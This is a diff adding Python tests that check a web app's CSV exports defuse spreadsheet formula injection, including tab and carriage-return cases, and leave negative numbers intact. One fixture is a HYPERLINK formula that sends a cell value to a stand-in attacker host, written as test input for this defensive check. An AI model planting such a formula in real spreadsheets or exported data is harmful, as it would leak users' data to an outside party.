@@ -188,3 +188,57 @@ def test_the_exports_page_shows_real_counts_sizes_and_build_times(built, setting
     assert after["zone-matrix.json"][4] == f"{len(body)} bytes"
     zip3 = client.get("/exports/zip3-reference.json").get_data()
     assert exports_page_rows(client)["zip3-reference.json"][3] == f"{len(json.loads(zip3))} ZIP3s"
+
+
+# ---- text from uploaded files cannot run as a spreadsheet formula
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_numbers_are_not(imp_app, imp_settings, files,
+                                                                          login_client):
+    from handled.integrations.service import import_file
+    from tests.support.import_files import uszip_row, write_uszips
+
+    cities = {"10001": FORMULA, "20001": "+1 cmd", "30001": "-2+3", "40001": "@SUM(1)", "50001": "Ordinary"}
+    rows = [uszip_row(z, city=city, population="10", lat="40.5", lng="-73.25") for z, city in cities.items()]
+    ctx = system_context(imp_settings)
+    assert import_file(ctx, "us-zips", write_uszips(files / "uszips.csv", rows)).status == "succeeded"
+    run_transformation(ctx, "zip3-reference")
+
+    downloader = login_client(permissions=["download_exports"])
+    response = downloader.get("/exports/zip3_reference.csv")
+    assert response.status_code == 200
+    table = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    by_zip3 = {row["zip3"]: row for row in table}
+    assert {z: row["primary_city"] for z, row in by_zip3.items()} == {
+        "100": "'" + FORMULA, "200": "'+1 cmd", "300": "'-2+3", "400": "'@SUM(1)", "500": "Ordinary"}
+    assert {row["pop_lng"] for row in table} == {"-73.25"}        # a negative number stays a number
+    assert {row["total_population"] for row in table} == {"10"}
+
+    target = files / "zip3.csv"                                    # the CLI writes the same bytes
+    with open(target, "wb") as out:
+        service.write_export(ctx, "zip3_reference.csv", out)
+    assert target.read_bytes() == response.get_data()
+
+
+def test_formula_neutralising_covers_tab_and_carriage_return(app, settings):
+    data_db.execute_sql("INSERT INTO reference.zip3_reference (zip3, primary_city, pop_lng) VALUES "
+                        "('001', %s, -1.5), ('002', %s, 2), ('003', %s, NULL)", ["\tTabbed", "\rReturned", "'=quoted"])
+    out = io.BytesIO()
+    service.write_export(system_context(settings), "zip3_reference.csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
+    assert [(r["primary_city"], r["pop_lng"]) for r in rows] == [
+        ("'\tTabbed", "-1.5"), ("'\rReturned", "2"), ("'=quoted", "")]
+
+
+def test_every_text_column_of_a_csv_export_is_checked_unless_it_holds_codes(app):
+    from handled.exports.registry import EXPORTS
+
+    for export in (e for e in EXPORTS.values() if e.kind == "csv"):
+        columns = builders.table_columns(export)
+        assert set(export.code_columns) <= {name for name, is_text in columns if is_text}, export.id
+        statement = builders.copy_sql(export, columns)
+        for name, is_text in columns:
+            checked = f'ascii("{name}")' in statement
+            assert checked == (is_text and name not in export.code_columns), (export.id, name)
